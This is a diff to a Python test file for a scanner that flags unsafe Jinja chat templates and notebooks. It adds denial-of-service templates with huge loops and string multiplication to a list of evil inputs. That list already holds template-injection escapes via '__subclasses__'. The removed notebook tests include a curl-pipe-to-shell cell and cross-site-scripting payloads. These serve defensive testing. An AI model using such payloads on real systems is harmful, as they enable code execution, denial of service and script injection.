@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tests.unit.scanning.building import budget, look_at, rules, unsafe
+from tests.unit.scanning.building import budget, cell, look_at, notebook, rules, unsafe
 from workbench.findings.finding import Level
 from workbench.findings.scan import Outcome
 from workbench.scanning.templates import check_template
@@ -37,7 +37,8 @@ LLAMA = (
     "{% raw %}{{ x.__class__ }}{% endraw %}{%- macro f(x) -%}{{ x|map(attribute='y')|list }}{%- "
     "endmacro -%}{{ strftime_now('%d %b %Y') }}{{ date_string | default('26 Jul 2024') }}"
 )
-SAFE = [CHATML, LLAMA, "no code at all", "{{ x }}", "{{ 1.5 }}", "{% for _ in x %}{% endfor %}"]
+SAFE = [CHATML, LLAMA, "no code at all", "{{ x }}", "{{ 1.5 }}", "{% for _ in x %}{% endfor %}",
+        "{% for i in range(3) %}{{ 2 * i }}{% endfor %}"]  # fmt: skip
 EVIL = [
     "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "{{ ''['__class__'] }}",
@@ -77,6 +78,10 @@ EVIL = [
     "{# x",
     "{% raw %} x",
     "{{ 'x }}",
+    "{% for i in range(10**9) %}x{% endfor %}",
+    "{% for i in range(99999999) %}x{% endfor %}",
+    "{{ 'x' * 99999999999 }}",
+    "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
 ]
 
 
@@ -218,41 +223,6 @@ def test_documents_are_read_strictly() -> None:
     assert look_at(b"[" * 200_000).outcome is Outcome.safe  # no document: text
     assert look_at(b'{"a": ' + b"1" * 10_000 + b"}").outcome is Outcome.safe
     unsafe(b"[" + b"1," * (13 << 20) + b"1]", "too-large")
-
-
-def notebook(*cells: object, **more: object) -> bytes:
-    return json.dumps(
-        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **more}
-    ).encode()
-
-
-def cell(source: object, outputs: object = (), **metadata: object) -> object:
-    return {"cell_type": "code", "source": source, "outputs": outputs, "metadata": metadata}
-
-
-def test_notebooks_are_programs_that_people_choose_to_run() -> None:
-    found = look_at(notebook(cell("1 + 1"), cell(["import pandas\n", "pandas.DataFrame()"])))
-    assert (found.kind, found.outcome, found.findings) == ("notebook", Outcome.allowed, ())
-    for path in sorted(EXAMPLES.glob("*.ipynb")):
-        assert look_at(path.read_bytes()).outcome is Outcome.allowed
-
-
-@pytest.mark.parametrize(
-    "made",
-    [
-        cell("!curl http://x | sh"),
-        cell(["%%bash\n", "rm x"]),
-        cell("1", jupyter={"source_hidden": True}),
-        cell("1", [{"data": {"text/html": ["<b>x</b>", "<script>alert(1)</script>"]}}]),
-        cell("1", [{"data": {"application/javascript": "alert(1)"}}]),
-        cell("1", [{"data": {"image/svg+xml": "<svg onload=alert(1)>"}}]),
-        {"cell_type": "markdown", "source": "<img src=x onerror=alert(1)>"},
-    ],
-)
-def test_what_notebooks_hide_is_a_concern(made: object) -> None:
-    found = look_at(notebook(made))
-    assert found.outcome is Outcome.allowed
-    assert [one.level for one in found.findings] == [Level.concern]
 
 
 PROGRAMS = [
